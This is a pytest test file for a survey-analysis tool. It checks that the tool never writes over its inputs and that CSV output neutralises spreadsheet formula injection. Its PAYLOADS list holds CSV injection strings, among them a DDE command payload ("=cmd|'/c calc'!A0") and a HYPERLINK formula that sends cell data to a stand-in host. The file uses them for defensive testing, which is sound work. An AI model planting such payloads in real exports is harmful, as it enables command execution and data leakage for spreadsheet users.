"""Nothing lost, nothing injected: what valuekit writes.

* Never over an input: every command and function that writes compares its outputs with
  its inputs by file identity (device and inode), so a symbolic or a hard link to the
  survey export *is* the export; refused even with ``--force`` (which only replaces an
  earlier output), naming both paths. The report's folder is never the notebooks' folder.
* No live formulas in a written CSV: a text cell or a column name beginning with ``=``,
  ``+``, ``-``, ``@``, a tab or a carriage return is written with a leading apostrophe
  (the OWASP rule), so a spreadsheet shows it as text.
"""

import csv
import hashlib
import os

import pandas as pd
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from valuekit import DEMO_CODEBOOK, DEMO_DATA
from valuekit.cli import _neutralised, main
from valuekit.config import NOTEBOOKS_DIR
from valuekit.errors import FileError
from valuekit.report import run_report

CODEBOOK = yaml.safe_load(DEMO_CODEBOOK.read_text(encoding="utf-8"))
TARGETS = DEMO_DATA.parent / "demo_targets.yaml"


def _digest(path) -> str:
    with open(path, "rb") as fh:
        return hashlib.sha256(fh.read()).hexdigest()


@pytest.fixture
def export(tmp_path):
    """The first 60 rows of the demo survey, in a folder of their own."""
    path = tmp_path / "survey.csv"
    pd.read_csv(DEMO_DATA, nrows=60).to_csv(path, index=False)
    return path


def _refused(capsys, argv, export, *named):
    before = _digest(export)
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert "valuekit never writes over an input" in err and "Traceback" not in err
    for text in named:
        assert text in err, err
    assert _digest(export) == before  # the export is untouched
    return err


# -- outputs never overwrite inputs ---------------------------------------------------------------


@pytest.mark.adversarial("error")
@pytest.mark.parametrize("force", [[], ["--force"]])
def test_init_refuses_to_write_the_draft_over_the_export(capsys, export, force):
    err = _refused(capsys, ["init", str(export), "-o", str(export), *force], export, f"'{export}' is DATA")
    assert "pass --force" not in err  # never advice to overwrite one's own export


@pytest.mark.adversarial("error")
def test_init_refuses_a_symbolic_link_to_the_export(capsys, export):
    link = export.parent / "draft.yaml"
    link.symlink_to(export.name)
    _refused(capsys, ["init", str(export), "-o", str(link), "--force"], export,
             f"'{link}' is the same file as DATA '{export}'")


@pytest.mark.adversarial("error")
@pytest.mark.parametrize("command", ["score", "weight"])
def test_score_and_weight_refuse_a_hard_link_to_the_export_even_with_force(capsys, export, command):
    link = export.parent / "out.csv"
    os.link(export, link)
    argv = [command, str(export), "--codebook", str(DEMO_CODEBOOK), "-o", str(link), "--force"]
    if command == "weight":
        argv += ["--targets", str(TARGETS)]
    _refused(capsys, argv, export, f"'{link}' is the same file as DATA '{export}'")


@pytest.mark.adversarial("error")
def test_score_refuses_to_write_over_its_codebook(capsys, export, tmp_path):
    codebook = tmp_path / "codebook.csv"  # a codebook named like an output
    codebook.write_text(DEMO_CODEBOOK.read_text(encoding="utf-8"), encoding="utf-8")
    before = _digest(codebook)
    _refused(capsys, ["score", str(export), "--codebook", str(codebook), "-o", str(codebook), "--force"], export,
             "is --codebook")
    assert _digest(codebook) == before


@pytest.mark.adversarial("error")
def test_weight_refuses_to_write_over_its_targets(capsys, export, tmp_path):
    targets = tmp_path / "targets.csv"
    targets.write_text(TARGETS.read_text(encoding="utf-8"), encoding="utf-8")
    before = _digest(targets)
    _refused(capsys, ["weight", str(export), "--codebook", str(DEMO_CODEBOOK), "--targets", str(targets),
                      "-o", str(targets), "--force"], export, "is --targets")
    assert _digest(targets) == before


@pytest.mark.adversarial("result")
def test_force_still_replaces_an_earlier_output(capsys, export, tmp_path):
    out = tmp_path / "scores.csv"
    out.write_text("an earlier run\n")
    assert main(["score", str(export), "--codebook", str(DEMO_CODEBOOK), "-o", str(out)]) == 2
    assert "exists; pass --force" in capsys.readouterr().err
    assert main(["score", str(export), "--codebook", str(DEMO_CODEBOOK), "-o", str(out), "--force"]) == 0
    assert pd.read_csv(out)["row"].size > 0


def _notebooks_state():
    return {p.name: _digest(p) for p in sorted(NOTEBOOKS_DIR.iterdir()) if p.is_file()}


@pytest.mark.adversarial("error")
@pytest.mark.parametrize("how", ["same", "link"])
def test_report_refuses_the_notebooks_folder_as_its_output(tmp_path, how):
    out = NOTEBOOKS_DIR
    if how == "link":
        out = tmp_path / "pages"
        out.symlink_to(NOTEBOOKS_DIR, target_is_directory=True)
    before = _notebooks_state()
    with pytest.raises(FileError, match=r"is (the same folder as )?the notebooks folder.*an input of this run; "
                                        r"valuekit never writes over an input"):
        run_report(DEMO_DATA, DEMO_CODEBOOK, out, progress=None)
    assert _notebooks_state() == before


@pytest.mark.adversarial("error")
def test_report_refuses_a_page_that_is_a_link_to_its_survey(tmp_path, export):
    out = tmp_path / "pages"
    out.mkdir()
    (out / "01_load_and_audit.html").symlink_to(export)
    with pytest.raises(FileError, match=r"01_load_and_audit.html' is the same file as data"):
        run_report(export, DEMO_CODEBOOK, out, progress=None)


@pytest.mark.adversarial("error")
def test_a_dask_audit_never_deletes_the_earlier_output_it_reads(tmp_path):
    from valuekit.engines.dask import audit_files

    out = tmp_path / "out"
    (out / "rows").mkdir(parents=True)
    part = out / "rows" / "part-0.parquet"  # a survey read back from an earlier run's folder
    pd.read_csv(DEMO_DATA, nrows=30).to_parquet(part)
    before = _digest(part)
    with pytest.raises(FileError, match=r"part-0.parquet' is source, an input of this run"):
        audit_files(part, DEMO_CODEBOOK, out=out, force=True)
    assert _digest(part) == before


# -- no live formulas in written CSV --------------------------------------------------------------

PAYLOADS = ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "=cmd|'/c calc'!A0", "+1+1", "-2+3",
            "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_export(tmp_path):
    frame = pd.read_csv(DEMO_DATA, nrows=600)  # enough for every category of the targets
    frame["respondent_id"] = frame["respondent_id"].astype(str)
    frame.loc[: len(PAYLOADS) - 1, "respondent_id"] = PAYLOADS
    frame.loc[len(PAYLOADS), "respondent_id"] = "-3"
    frame["=cmd|'/c calc'!A0"] = PAYLOADS[0]  # in the header and in every cell of a column
    path = tmp_path / "hostile.csv"
    frame.to_csv(path, index=False)
    return path


def _spreadsheet_cells(path):
    """Every cell (header included) as a spreadsheet reads it from the CSV."""
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _live(cells):
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
            and not _is_number(c)]


def _is_number(text):
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.mark.adversarial("result")
def test_score_writes_formula_ids_as_text(capsys, hostile_export, tmp_path):
    out = tmp_path / "scores.csv"
    assert main(["score", str(hostile_export), "--codebook", str(DEMO_CODEBOOK), "-o", str(out)]) == 0
    assert "written with a leading apostrophe" in capsys.readouterr().out
    cells = _spreadsheet_cells(out)
    assert not _live(cells) and "-3" not in cells
    ids = pd.read_csv(out, dtype=str, keep_default_na=False)["respondent_id"].tolist()
    kept = [p.strip() for p in PAYLOADS]  # the reader strips a cell's surrounding white space
    # "\t=1+1" and "\r=1+1" are one id once stripped: the second is a duplicate the audit excludes
    assert {"'" + p for p in kept} | {"'-3"} == {i for i in ids if i.startswith("'")}
    assert "'-3" in ids  # by default a signed number in a text column is text too


@pytest.mark.adversarial("result")
def test_keep_signed_numbers_leaves_negative_numbers_alone(capsys, hostile_export, tmp_path):
    out = tmp_path / "scores.csv"
    assert main(["score", str(hostile_export), "--codebook", str(DEMO_CODEBOOK), "-o", str(out),
                 "--keep-signed-numbers"]) == 0
    ids = pd.read_csv(out, dtype=str, keep_default_na=False)["respondent_id"].tolist()
    assert "-3" in ids and "'-2+3" in ids  # a formula is still text
    assert not _live(_spreadsheet_cells(out))


@pytest.mark.adversarial("result")
def test_weight_all_columns_writes_formula_headers_and_cells_as_text(capsys, hostile_export, tmp_path):
    out = tmp_path / "weights.csv"
    assert main(["weight", str(hostile_export), "--codebook", str(DEMO_CODEBOOK), "--targets", str(TARGETS),
                 "-o", str(out), "--all-columns"]) == 0
    cells = _spreadsheet_cells(out)
    assert not _live(cells)
    assert "'=cmd|'/c calc'!A0" in cells[:len(pd.read_csv(hostile_export, nrows=0).columns) + 1]


@pytest.mark.adversarial("result")
def test_parquet_keeps_text_as_it_is(hostile_export, tmp_path):
    out = tmp_path / "scores.parquet"
    assert main(["score", str(hostile_export), "--codebook", str(DEMO_CODEBOOK), "-o", str(out)]) == 0
    assert PAYLOADS[0] in pd.read_parquet(out)["respondent_id"].tolist()  # no spreadsheet runs a Parquet cell


@pytest.mark.adversarial("property")
@settings(max_examples=150, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n'\"1.eE ,;aé\u202e\u2028"), max_size=8),
                min_size=1, max_size=6))
def test_no_written_text_cell_starts_a_formula(texts):
    import pyarrow as pa

    table, changed = _neutralised(pa.table({"=x": pa.array(texts, pa.string()), "n": list(range(len(texts)))}))
    col = table.column(0).to_pylist()
    assert table.column_names == ["'=x", "n"]
    assert changed == 1 + sum(t[:1] in ("=", "+", "-", "@", "\t", "\r") for t in texts)
    for before, after in zip(texts, col):
        assert after == ("'" + before if before[:1] in ("=", "+", "-", "@", "\t", "\r") else before)


# -- paths no file system can hold ----------------------------------------------------------------

LONG = "a" * 300


@pytest.mark.adversarial("error")
@pytest.mark.parametrize("argv, flag", [
    (["audit", f"{LONG}.csv", "--codebook", str(DEMO_CODEBOOK)], "DATA"),
    (["audit", str(DEMO_DATA), "--codebook", f"{LONG}.yaml"], "--codebook"),
    (["score", str(DEMO_DATA), "--codebook", str(DEMO_CODEBOOK), "-o", f"{LONG}.csv"], "--output"),
    (["report", str(DEMO_DATA), "--codebook", str(DEMO_CODEBOOK), "--out", LONG], "--out"),
    (["dashboard", "--scenarios", LONG], "--scenarios"),
    (["audit", "x/" * 2100 + "s.csv", "--codebook", str(DEMO_CODEBOOK)], "DATA"),
])
def test_a_path_too_long_for_any_file_system_is_named_not_a_raw_oserror(capsys, argv, flag):
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert f": {flag}: the path '" in err and "cannot name a file" in err and "OSError" not in err, err


@pytest.mark.adversarial("error")
@pytest.mark.parametrize("call", ["load_survey", "read_codebook", "Scenario.load"])
def test_api_paths_with_a_nul_or_too_long_are_named(call):
    from valuekit import Scenario, load_survey, read_codebook
    from valuekit.errors import ValuekitError

    fn = {"load_survey": lambda p: load_survey(p, codebook=DEMO_CODEBOOK), "read_codebook": read_codebook,
          "Scenario.load": Scenario.load}[call]
    for bad, why in (("sur\0vey.csv", "it holds a NUL character"),
                     (f"{LONG}.yaml", "one of its file or folder names is 305 bytes long; file systems allow 255")):
        with pytest.raises(ValuekitError, match="cannot name a file") as caught:
            fn(bad)
        assert why in str(caught.value)
